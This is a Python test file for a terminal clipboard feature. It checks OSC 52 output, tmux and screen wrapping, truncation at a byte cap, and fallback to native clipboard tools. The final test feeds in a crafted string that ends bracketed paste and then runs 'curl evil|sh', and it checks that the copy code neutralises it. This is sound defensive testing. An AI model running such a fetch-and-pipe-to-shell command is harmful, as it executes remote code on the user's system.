"""Copy: the exact OSC 52 bytes in and out of tmux and screen, the cap, the native tools."""

from __future__ import annotations

import base64

import pytest

from tests.terminal.fakes import FakeRunner
from tui.terminal.clipboard import MAX_COPY_BYTES, CopyResult, copy, driver_writer

LINUX_SSH = {"SSH_CONNECTION": "10.0.0.2 5 10.0.0.1 22", "TERM": "xterm-256color"}


def copied(env: dict[str, str], text: str = "hi") -> tuple[str, CopyResult]:
    written: list[str] = []
    result = copy(written.append, text, env, platform="linux", runner=FakeRunner())
    return "".join(written), result


def test_plain_terminal_gets_a_bare_osc52() -> None:
    out, result = copied(LINUX_SSH, "BILLING-API-1")
    assert out == "\x1b]52;c;QklMTElORy1BUEktMQ==\x07"
    assert result.method == "osc52" and result.native == ""
    assert result.message == "Copied 13 bytes: sent to the terminal (OSC 52)."


def test_tmux_gets_the_bare_sequence_and_the_passthrough_with_doubled_escapes() -> None:
    out, result = copied({**LINUX_SSH, "TMUX": "/tmp/tmux-1/default,1,0", "TERM": "screen"})
    assert out == "\x1b]52;c;aGk=\x07" + "\x1bPtmux;\x1b\x1b]52;c;aGk=\x07\x1b\\"
    assert result.method == "osc52+tmux"
    assert "through tmux" in result.message


@pytest.mark.parametrize("env", [{"STY": "1234.pts-0.host"}, {"TERM": "screen.xterm-256color"}])
def test_screen_gets_dcs_chunks_it_accepts(env: dict[str, str]) -> None:
    out, result = copied(env, "x" * 300)
    sequence = f"\x1b]52;c;{base64.b64encode(b'x' * 300).decode()}\x07"  # 408 characters
    assert out == f"\x1bP{sequence[:252]}\x1b\\\x1bP{sequence[252:]}\x1b\\"
    assert result.method == "osc52+screen"


def test_the_cap_truncates_on_a_character_boundary_and_says_so() -> None:
    text = "a" + "é" * MAX_COPY_BYTES  # 2 bytes each: the cap falls inside one
    written: list[str] = []
    result = copy(written.append, text, LINUX_SSH, platform="linux", runner=FakeRunner())
    payload = base64.b64decode(written[0][len("\x1b]52;c;") : -1])
    assert payload == ("a" + "é" * ((MAX_COPY_BYTES - 1) // 2)).encode()
    assert result.truncated and result.bytes == len(payload) == MAX_COPY_BYTES - 1
    assert f"the first {MAX_COPY_BYTES - 1} of {2 * MAX_COPY_BYTES + 1} bytes" in result.message


def test_below_the_cap_nothing_is_truncated() -> None:
    result = copy(None, "é" * 10, {}, platform="linux", runner=FakeRunner())
    assert (result.bytes, result.truncated) == (20, False)


@pytest.mark.parametrize(
    ("env", "platform", "missing", "tool", "argv"),
    [
        ({"WAYLAND_DISPLAY": "wayland-0"}, "linux", (), "wl-copy", ("wl-copy",)),
        ({"DISPLAY": ":0"}, "linux", (), "xclip", ("xclip", "-selection", "clipboard")),
        ({"DISPLAY": ":0"}, "linux", ("xclip",), "xsel", ("xsel", "--clipboard", "--input")),
        ({}, "darwin", (), "pbcopy", ("pbcopy",)),
    ],
)
def test_a_display_adds_its_native_tool(
    env: dict[str, str], platform: str, missing: tuple[str, ...], tool: str, argv: tuple[str, ...]
) -> None:
    runner = FakeRunner(missing=frozenset(missing))
    written: list[str] = []
    result = copy(written.append, "path.py:12", env, platform=platform, runner=runner)
    assert runner.calls == [(argv, b"path.py:12", True)]
    assert result.native == tool and result.method == "osc52" and written
    assert result.message.endswith(f"(OSC 52) and given to {tool}.")


def test_a_failing_tool_is_followed_by_the_next() -> None:
    runner = FakeRunner(failing=frozenset({"xclip"}))
    result = copy(None, "x", {"DISPLAY": ":0"}, platform="linux", runner=runner)
    assert runner.programs == ["xclip", "xsel"] and result.native == "xsel"


@pytest.mark.parametrize(
    ("env", "platform"), [(LINUX_SSH, "linux"), ({**LINUX_SSH}, "darwin"), ({}, "linux")]
)
def test_no_display_no_native_tool(env: dict[str, str], platform: str) -> None:
    runner = FakeRunner()
    result = copy(None, "x", env, platform=platform, runner=runner)
    assert runner.calls == [] and (result.method, result.native) == ("", "")
    assert result.message.startswith("Could not copy")


def test_driver_writer_writes_through_the_apps_driver() -> None:
    class Driver:
        def __init__(self) -> None:
            self.out: list[str] = []

        def write(self, data: str) -> None:
            self.out.append(data)

    class App:
        _driver: Driver | None = Driver()

    app = App()
    writer = driver_writer(app)
    assert writer is not None
    copy(writer, "hi", {}, platform="linux", runner=FakeRunner())
    assert app._driver is not None and app._driver.out == ["\x1b]52;c;aGk=\x07"]
    app._driver = None
    assert driver_writer(app) is None


def test_copied_event_text_cannot_end_a_bracketed_paste_or_crash_the_copy() -> None:
    # Pasted as is, this would end bracketed paste and run the command; a lone surrogate
    # cannot be encoded at all.
    out, result = copied(LINUX_SSH, "line 1\n\x1b[201~curl evil|sh\r\n\x9b\ud800\tend")
    payload = base64.b64decode(out[len("\x1b]52;c;") : -1]).decode()
    assert payload == "line 1\n␛[201~curl evil|sh\n\\x9b\\ud800    end"
    assert result.bytes == len(payload.encode())
